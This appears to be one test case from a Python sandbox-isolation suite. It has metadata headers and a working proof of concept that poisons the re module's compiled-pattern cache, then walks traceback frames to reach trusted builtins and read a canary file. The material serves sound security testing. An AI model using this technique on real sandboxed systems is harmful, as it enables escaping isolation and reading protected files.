# id: regex-cache-poison
# family: shared-state-poisoning
# kind: isolation
# invariant: B, D, E
# origin: found while probing CPython
# technique: the cache of compiled patterns is a reachable dictionary: a false entry is what trusted code then matches with
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import re


class Pattern:
    def match(self, text):
        try:
            raise LookupError
        except LookupError as error:
            trusted = error.__traceback__.tb_frame.f_back
        print(trusted.f_builtins["open"]("canary.txt").read())


re._cache[str, "a", 0] = Pattern()
re.match("a", "a")
